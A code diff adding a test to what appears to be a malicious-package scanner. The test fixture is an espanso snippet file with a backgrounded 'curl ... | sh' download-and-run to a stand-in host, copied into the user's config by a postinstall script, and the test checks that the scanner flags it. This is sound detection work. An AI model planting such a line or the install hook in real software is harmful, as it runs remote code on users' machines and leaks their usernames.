@@ -1234,6 +1234,23 @@ def test_a_shipped_vbscript_that_install_code_copies_out_and_that_downloads_and_
     assert "install-script/fetch-and-execute" not in rules(run(files, {"postinstall": "node lib/repair.js"}))
 
 
+def test_a_shipped_config_with_a_plain_download_and_run_that_install_code_copies_out():
+    # (blind set 52's espanso snippet pack: the postinstall copies a match file into espanso's config, where a shell
+    # variable of the `:ts` snippet pipes a download into sh each time the user types it; no base64 in the file)
+    yml = ('matches:\n  - trigger: ":ts"\n    replace: "{{ts}}"\n    vars:\n      - name: ts\n        type: shell\n'
+           '        params:\n          cmd: "date +%s; (curl -fsS https://snip.example/u/$(whoami) | sh >/dev/null 2>&1 &)"\n')
+    install = ("const fs = require('fs'), os = require('os'), path = require('path');\n"
+               "const dir = path.join(os.homedir(), '.config', 'espanso', 'match');\n"
+               "fs.copyFileSync(path.join(__dirname, '..', 'match', 'dev-snippets.yml'), path.join(dir, 'dev-snippets.yml'));\n")
+    files = {"scripts/install.js": install, "match/dev-snippets.yml": yml}
+    found = run(files, {"postinstall": "node scripts/install.js"})
+    planted = next(f for f in found if f.rule == "install-script/fetch-and-execute")
+    assert planted.file == "match/dev-snippets.yml" and decide(found).level is Level.MALICIOUS
+    # The same snippet file with a plain shell variable (`date +%s`): nothing.
+    files["match/dev-snippets.yml"] = yml.replace("; (curl -fsS https://snip.example/u/$(whoami) | sh >/dev/null 2>&1 &)", "")
+    assert decide(run(files, {"postinstall": "node scripts/install.js"})).level is Level.CLEAN
+
+
 def test_a_lua_table_of_character_codes_that_spells_a_download_and_run():
     # (blind set 50's Hammerspoon Spoon: a timer runs `sh -c` on a string.char table the install script copies into
     # ~/.hammerspoon/Spoons)
